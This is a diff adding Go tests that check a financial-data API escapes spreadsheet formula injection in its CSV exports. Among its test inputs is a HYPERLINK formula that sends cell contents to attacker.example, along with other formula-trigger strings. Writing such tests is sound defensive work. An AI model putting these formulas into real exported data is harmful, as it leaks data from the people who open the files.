@@ -6,6 +6,12 @@ import (
 	"net/http/httptest"
 	"strings"
 	"testing"
+
+	"github.com/prometheus/client_golang/prometheus"
+
+	"github.com/pregao/pregao/engine"
+	"github.com/pregao/pregao/engine/ratios"
+	"github.com/pregao/pregao/snapshot/bundle"
 )
 
 func readCSV(t *testing.T, w *httptest.ResponseRecorder) [][]string {
@@ -107,4 +113,112 @@ func TestCSVRatiosAndCash(t *testing.T) {
 	defer func(n int) { maxCSVSource = n }(maxCSVSource)
 	maxCSVSource = 10
 	checkError(t, ts.do("GET", "/v2/companies/cash-corporate-actions?format=csv&current=false", testKeyDelayed, ""), 400, "too large for a CSV form")
+}
+
+// A text cell a spreadsheet would take for a formula is sent with a
+// leading apostrophe; numbers, and text that is a plain number, as given.
+func TestSafeCell(t *testing.T) {
+	f := func(in, want string) {
+		t.Helper()
+		if got := safeCell(in); got != want {
+			t.Errorf("safeCell(%q) = %q, want %q", in, got, want)
+		}
+	}
+	f("", "")
+	f("DIVIDEND", "DIVIDEND")
+	f("=HYPERLINK(\"http://x\",\"y\")", "'=HYPERLINK(\"http://x\",\"y\")")
+	f("+55 11", "'+55 11")
+	f("-A1", "'-A1")
+	f("@SUM(A1)", "'@SUM(A1)")
+	f("\tx", "'\tx")
+	f("\rx", "'\rx")
+	f("-1.5", "-1.5")
+	f("+2", "+2")
+	f("-1e-5", "-1e-5")
+	f("-", "'-")
+	f("-.", "'-.")
+	f("-1e", "'-1e")
+	f("-1.2.3", "'-1.2.3")
+	f("a=1", "a=1")
+	f("'=x", "'=x")
+}
+
+// A cash action whose code is a formula reaches the CSV as text (the
+// JSON keeps it as given); numeric cells, negative ones included, stay
+// numbers.
+func TestCSVFormulaCells(t *testing.T) {
+	u, err := bundle.Read(smallBundle)
+	if err != nil {
+		t.Fatal(err)
+	}
+	d, err := ratios.Derive(u)
+	if err != nil {
+		t.Fatal(err)
+	}
+	u.Derived = d
+	const formula = `=HYPERLINK("http://attacker.example/?"&A1,"click")`
+	hit := -1
+	for i := range u.CashActions {
+		if u.CashActions[i].Ticker == "ENHZ3" {
+			hit = i
+			break
+		}
+	}
+	if hit < 0 {
+		t.Fatal("no cash action of ENHZ3 in the small bundle")
+	}
+	u.CashActions[hit].Code = formula
+	u.CashActions[hit].Protocol = "@cmd"
+	ds, err := engine.Build(u)
+	if err != nil {
+		t.Fatal(err)
+	}
+	store := &engine.Store{}
+	store.Publish(ds)
+	ts := &testServer{store: store, reg: prometheus.NewRegistry()}
+	ts.api = New(DefaultConfig(), store, testKeys(t), nil, ts.reg, nil)
+	for _, path := range []string{"/v2/companies/ENHZ3/cash-corporate-actions?current=false", "/v2/companies/cash-corporate-actions?current=false&limit=1000"} {
+		j := ts.do("GET", path, testKeyDelayed, "")
+		if !strings.Contains(j.Body.String(), `"code":"=HYPERLINK(`) {
+			t.Fatalf("%s: the JSON does not hold the code as given: %.300s", path, j.Body)
+		}
+		recs := readCSV(t, ts.do("GET", path+"&format=csv", testKeyDelayed, ""))
+		col := map[string]int{}
+		for i, c := range recs[0] {
+			col[c] = i
+		}
+		found := false
+		for _, r := range recs[1:] {
+			if v := r[col["code"]]; strings.Contains(v, "HYPERLINK") {
+				found = true
+				if v != "'"+formula || r[col["protocol"]] != "'@cmd" {
+					t.Errorf("%s: code %q protocol %q, want them neutralised", path, v, r[col["protocol"]])
+				}
+			}
+			for c, i := range col {
+				if v := r[i]; v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) && !plainNumber(v) {
+					t.Errorf("%s: column %s: formula cell %q", path, c, v)
+				}
+			}
+		}
+		if !found {
+			t.Errorf("%s: the action is not in the CSV", path)
+		}
+	}
+	// Negative numbers stay numbers (a quote series' variation).
+	recs := readCSV(t, ts.do("GET", "/v2/quotes/ENHZ3?start_date=2024-01-01&end_date=2024-03-27&format=csv", testKeyDelayed, ""))
+	neg := false
+	for _, r := range recs[1:] {
+		for _, v := range r {
+			if strings.HasPrefix(v, "-") {
+				neg = true
+				if strings.HasPrefix(v, "'") {
+					t.Errorf("a number neutralised: %q", v)
+				}
+			}
+		}
+	}
+	if !neg {
+		t.Error("no negative number in the quote series: the check checks nothing")
+	}
 }
